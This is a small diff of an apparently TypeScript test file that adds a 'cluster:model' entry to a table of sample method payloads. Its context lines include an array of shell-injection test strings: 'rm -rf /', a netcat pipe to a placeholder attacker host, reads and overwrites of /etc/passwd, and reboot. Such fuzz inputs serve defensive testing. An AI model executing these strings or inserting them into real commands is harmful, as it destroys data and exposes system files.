@@ -53,6 +53,7 @@ const SAMPLES: Record<Method, Record<string, unknown>> = {
   'console:resize': { consoleId: 'abc-123', cols: 100, rows: 30 },
   'console:close': { consoleId: 'abc-123' },
   'cluster:snapshot': {},
+  'cluster:model': {},
 };
 
 const SHELL = ['; rm -rf /', '$(id)', '`id`', '| nc attacker 1', '&& reboot', "'; DROP", '\n/bin/sh', '${IFS}cat${IFS}/etc/passwd', '>/etc/passwd', '*'];
